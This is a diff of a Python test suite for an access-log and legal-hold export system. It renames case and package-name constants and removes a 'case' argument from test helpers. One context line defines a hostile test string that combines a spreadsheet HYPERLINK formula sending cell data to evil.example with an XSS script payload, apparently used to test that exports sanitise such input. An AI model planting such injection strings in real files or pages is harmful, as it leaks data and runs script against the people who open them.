@@ -47,7 +47,10 @@ from tests.fakes import (
 
 HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1)<img src=x onerror=alert(1)></script><script>'
 ALICE = "arn:aws:sts::123456789012:assumed-role/AWSReservedSSO_Legal_01/alice"
-CASE = "2026-117 Miller/Smith"
+CASE = "2026-117"
+"""Of the legal hold."""
+NAME = "2026-117 Miller/Smith"
+"""Of the packages."""
 HOUR = timedelta(hours=1)
 
 
@@ -116,13 +119,13 @@ class Court:
         work = Chaining(archive=self.archive, notes=self.notes, signer=EcSigner(), clock=self.clock)
         assert digest(work, until=self.clock.now() + HOUR).stopped is None
 
-    def record(self, action, calls, *, reason=None, case=None, details=None):
+    def record(self, action, calls, *, reason=None, details=None):
         """Write an access down, as AccessFunction does when it is asked."""
         log = AccessLog(
             archive=self.archive, notes=self.notes, accesses=self.accesses, clock=self.clock
         )
         asked = access_log.AccessRequest(
-            action=action, calls=tuple(calls), by=ALICE, reason=reason, case=case, details=details
+            action=action, calls=tuple(calls), by=ALICE, reason=reason, details=details
         )
         done = access_log.record(asked, log)
         self.recorded.append(done)
@@ -135,7 +138,7 @@ class Court:
     def export(self, to, rows=None, *, room=None, **asked):
         """Return the packages of these calls, or of all."""
         wanted = {"reason": "subpoena", "query": None, "all_revisions": False, "max_size": 10**9}
-        wanted |= {"case": CASE, "at": self.clock.now()} | asked
+        wanted |= {"name": NAME, "at": self.clock.now()} | asked
         work = Downloading(library=self.shelf, stitcher=lambda: self.stitcher)
         ports = Exporting(
             work=work if room is None else replace(work, room=lambda folder: room),
